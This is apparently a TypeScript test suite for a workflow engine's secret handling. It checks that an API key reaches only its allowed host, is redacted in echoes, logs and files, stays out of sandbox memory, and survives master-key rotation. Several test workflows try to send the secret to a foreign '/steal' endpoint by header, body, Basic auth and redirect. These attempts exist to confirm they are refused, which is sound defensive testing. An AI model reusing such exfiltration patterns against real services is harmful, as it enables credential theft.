import { spawnSync } from "node:child_process";
import { createHmac } from "node:crypto";
import type { Dirent } from "node:fs";
import { readFile, readdir, stat } from "node:fs/promises";
import { join, relative } from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { deploy, execute } from "../support/executions.ts";
import { startInstance } from "../support/instance.ts";
import type { Instance } from "../support/instance.ts";
import { openEnginesDirectory } from "../support/open-engine.ts";
import { runReplayCheck } from "../support/replay-checks.ts";
import { handled, startTarget } from "../support/target.ts";
import type { Target } from "../support/target.ts";

/** Unique words that a search finds by any part of them. */
const value = "sk-live-7hK2qPzW9vXc4NbT";

describe("a secret", () => {
  let instance: Instance;
  let own: Target;
  let foreign: Target;

  beforeAll(async () => {
    own = await startTarget({
      "POST /charge": ({ headers, body }) => ({ got: headers.authorization, body }),
      "GET /echo": ({ headers }, response) => {
        response.setHeader("x-echo", String(headers.authorization));
        return { echo: headers.authorization, encoded: Buffer.from(value).toString("base64") };
      },
      // Within the limit of a response; 27 MiB with placeholders in it, and twice that in the journal.
      "GET /flood": (_request, response) => {
        response.end(value.repeat(650_000));
        return handled;
      },
      "GET /away": (_request, response) => {
        response.writeHead(307, { location: `${foreign.url}/steal` }).end();
        return handled;
      },
    });
    foreign = await startTarget({ "GET /steal": () => "thanks", "POST /steal": () => "thanks" });
    instance = await startInstance({ DURANIUM_ENGINES_DIR: await openEnginesDirectory() });
    const { status } = await instance.request("PUT", "/workflows/pay/secrets/STRIPE_KEY", {
      body: { value, hosts: [own.url] },
    });
    expect(status).toBe(200);
  });
  afterAll(async () => {
    for (const each of [instance, own, foreign]) await each?.[Symbol.asyncDispose]();
  });

  /** Runs `body` of `run(ctx, {own, foreign})`. */
  async function run(body: string) {
    await deploy(instance, "pay", `export async function run(ctx, { own, foreign }) { ${body} }`);
    return await execute(instance, "pay", { own: own.url, foreign: foreign.url });
  }

  test("is sent to its own host, in a header and in the body, and never reaches the workflow", async () => {
    const { result } = await run(`
      const { STRIPE_KEY } = ctx.secrets;
      console.log("key", STRIPE_KEY);
      const response = await fetch(own + "/charge", {
        method: "POST",
        headers: { authorization: "Bearer " + STRIPE_KEY, "content-type": "application/json" },
        body: JSON.stringify({ key: STRIPE_KEY }),
      });
      return { STRIPE_KEY, response: await response.json() };`);
    const [request] = own.seen.filter(({ path }) => path === "/charge");
    expect(request?.headers.authorization).toBe(`Bearer ${value}`);
    expect(JSON.parse(request?.body ?? "")).toEqual({ key: value });
    expect(result.STRIPE_KEY).toMatch(/^secret_STRIPE_KEY_[0-9a-f]{32}$/);
    expect(result.response.got).toBe(`Bearer ${result.STRIPE_KEY}`);
  });

  test("is redacted if its host returns it", async () => {
    const { result } = await run(`
      const response = await fetch(own + "/echo", { headers: { authorization: ctx.secrets.STRIPE_KEY } });
      return { header: response.headers.get("x-echo"), body: await response.json(), key: ctx.secrets.STRIPE_KEY };`);
    expect(result.header).toBe(result.key);
    expect(result.body).toEqual({ echo: result.key, encoded: result.key });
  });

  test("that its host repeats beyond the limit rejects the fetch, which is sent once", async () => {
    const { failure } = await run(`
      const headers = { authorization: ctx.secrets.STRIPE_KEY };
      return (await (await fetch(own + "/flood", { headers })).text()).length;`);
    expect(failure).toMatchObject({
      code: "limit-exceeded",
      message: expect.stringContaining("echoes secrets"),
    });
    expect(own.seen.filter(({ path }) => path === "/flood")).toHaveLength(1);
  });

  test.each([
    ["in a header", "{ headers: { authorization: ctx.secrets.STRIPE_KEY } }"],
    ["in a body", "{ method: 'POST', body: ctx.secrets.STRIPE_KEY }"],
    [
      "in basic authentication",
      "{ headers: { authorization: 'Basic ' + btoa('u:' + ctx.secrets.STRIPE_KEY) } }",
    ],
  ])("is sent to no other host %s", async (_how, init) => {
    const { failure } = await run(`await fetch(foreign + "/steal", ${init});`);
    expect(failure).toMatchObject({
      code: "secret-refused",
      message: `fetch failed: the secret STRIPE_KEY may not be sent to ${foreign.url}: it is for ${own.url}`,
    });
    expect(foreign.seen).toEqual([]);
  });

  test("is not sent to the target of a redirect", async () => {
    const { failure } = await run(
      `await fetch(own + "/away", { headers: { "x-api-key": ctx.secrets.STRIPE_KEY } });`,
    );
    expect(failure).toMatchObject({ code: "secret-refused" });
    expect(foreign.seen).toEqual([]);
  });

  test("can sign without reaching the sandbox", async () => {
    const { result } = await run(`
      const signature = await ctx.secrets.hmacSha256("STRIPE_KEY", "order 4711");
      return Array.from(signature, (byte) => byte.toString(16).padStart(2, "0")).join("");`);
    expect(result).toBe(createHmac("sha256", value).update("order 4711").digest("hex"));
    const { failure } = await run(`await ctx.secrets.hmacSha256("NOBODYS", "order 4711");`);
    expect(failure.message).toBe('Cannot sign: workflow "pay" has no secret NOBODYS');
  });

  test("is not in the memory of the guest, which has only its placeholder", async () => {
    const { result } = await run(`${searchMemory}
      const { STRIPE_KEY } = ctx.secrets;
      const headers = { authorization: "Basic " + btoa("user:" + STRIPE_KEY), "x-key": STRIPE_KEY };
      const answers = [await fetch(own + "/charge", { method: "POST", headers, body: STRIPE_KEY })];
      answers.push(await fetch(own + "/echo", { headers }));
      const texts = [await answers[0].text(), await answers[1].text(), answers[1].headers.get("x-echo")];
      await ctx.secrets.hmacSha256("STRIPE_KEY", "order 4711");
      const needles = ${JSON.stringify(forms.map((form) => [...Buffer.from(form)].map((byte) => byte + 1)))};
      const found = needles.map((needle) => isInMemory(needle.map((byte) => byte - 1)));
      const placeholder = isInMemory(Array.from(STRIPE_KEY.slice(0, 24), (character) => character.charCodeAt(0)));
      return { found, placeholder, kept: texts.length };`);
    expect(result).toEqual({ found: forms.map(() => false), placeholder: true, kept: 3 });
  });

  test("is in no HTTP response", async () => {
    const listed = await instance.request("GET", "/workflows/pay/secrets");
    expect(listed.body).toMatchObject({ items: [{ name: "STRIPE_KEY", hosts: [own.url] }] });
    const { body } = await instance.request("GET", "/executions?workflow=pay&limit=200");
    const texts = [JSON.stringify(listed.body), JSON.stringify(body)];
    for (const { executionId } of body.items as { executionId: string }[]) {
      const path = `/executions/${executionId}`;
      for (const part of ["", "/logs", "/recording"]) {
        texts.push(JSON.stringify((await instance.request("GET", `${path}${part}`)).body));
      }
    }
    // Each execution differs from this source, which the report says with what it expected.
    const source = `export const run = async (ctx, { own }) => { throw new Error((await fetch(own, { body: ctx.secrets.STRIPE_KEY, method: "POST" })).status); };`;
    const report = await runReplayCheck(instance, "pay", { source });
    expect(report.body).toMatchObject({ status: "completed", items: expect.arrayContaining([]) });
    texts.push(JSON.stringify(report.body));
    texts.push(String((await instance.request("GET", "/metrics")).body));
    texts.push(JSON.stringify((await instance.request("GET", "/audit-log")).body));
    expect(texts.filter(isTelling)).toEqual([]);
  });

  test("and payloads are in files that no other user of the machine can read, including Restate's", async () => {
    const { dataDir } = instance;
    const contained = (await ownEntries(dataDir)).map(({ parentPath, name }) =>
      relative(dataDir, join(parentPath, name)),
    );
    const bundling = (await readdir(join(dataDir, "bundling"))).map((name) => join("bundling", name));
    // Engines are copied unchanged, and contain no secrets.
    const names = [...contained, ...bundling].filter((name) => !name.startsWith("engines"));
    // Restate and the bundlers remove files of their own at any time.
    const modeOf = async (name: string) =>
      await stat(join(dataDir, name)).then(
        ({ mode }) => mode,
        () => 0,
      );
    const modes = await Promise.all(names.map(async (name) => ({ name, mode: await modeOf(name) })));
    expect(names.some((name) => name.startsWith("restate/"))).toBe(true);
    expect(modes.filter(({ mode }) => (mode & 0o077) !== 0).map(({ name }) => name)).toEqual([]);
  });

  test("is in no file: database, journal, artifacts, output of the process", async () => {
    await instance.stop();
    const telling = await filesTelling(instance.dataDir);
    expect(telling).toEqual([]);
    expect(isTelling(instance.output())).toBe(false);
  });

  test("keeps its value under a new master key", async () => {
    // It is down already, if all tests ran.
    await instance.stop();
    const before = await readFile(join(instance.dataDir, "master.key"), "utf8");
    const rotate = fileURLToPath(new URL("../../src/rotate-master-key.ts", import.meta.url));
    const env = { PATH: process.env["PATH"], DURANIUM_DATA_DIR: instance.dataDir };
    const { stdout } = spawnSync(process.execPath, [rotate], { env, encoding: "utf8" });
    expect(stdout).toBe("1 secrets are under the new master key\n");
    expect(await readFile(join(instance.dataDir, "master.key"), "utf8")).not.toBe(before);
    await instance.start();
    const { result } = await run(`return (await (await fetch(own + "/charge", {
      method: "POST",
      headers: { authorization: ctx.secrets.STRIPE_KEY },
    })).json()).got === ctx.secrets.STRIPE_KEY;`);
    expect(result).toBe(true);
    expect(own.seen.at(-1)?.headers.authorization).toBe(value);
  });
});

/** How a workflow of the engine with a hole gets at its own linear memory. Looks for bytes, and for UTF-16. */
const searchMemory = `
const isInMemory = (needle) => {
  const memory = new Uint8Array(outside.memory.buffer);
  return [1, 2].some((width) => {
    for (let at = memory.indexOf(needle[0]); at >= 0; at = memory.indexOf(needle[0], at + 1))
      if (needle.every((byte, index) => memory[at + index * width] === byte)) return true;
    return false;
  });
};
`;

const forms = [
  value,
  Buffer.from(value).toString("base64").slice(0, -4),
  // As Basic authentication has it behind a user name.
  Buffer.from(`user:${value}`).toString("base64").slice(8, -4),
  Buffer.from(value).toString("hex"),
];

function isTelling(text: string | Buffer): boolean {
  return forms.some((form) => text.includes(form));
}

async function filesTelling(folder: string): Promise<string[]> {
  const telling: string[] = [];
  for (const entry of await ownEntries(folder)) {
    const path = join(entry.parentPath, entry.name);
    if (entry.isFile() && isTelling(await readFile(path))) telling.push(path);
  }
  return telling;
}

/** What is in the folder itself, without what links lead to: other instances change that at any time. */
async function ownEntries(folder: string): Promise<Dirent[]> {
  const entries = await readdir(folder, { withFileTypes: true });
  // Node's own recursive listing follows links.
  const folders = entries.filter((entry) => entry.isDirectory());
  const below = await Promise.all(folders.map(async ({ name }) => await ownEntries(join(folder, name))));
  return [...entries, ...below.flat()];
}
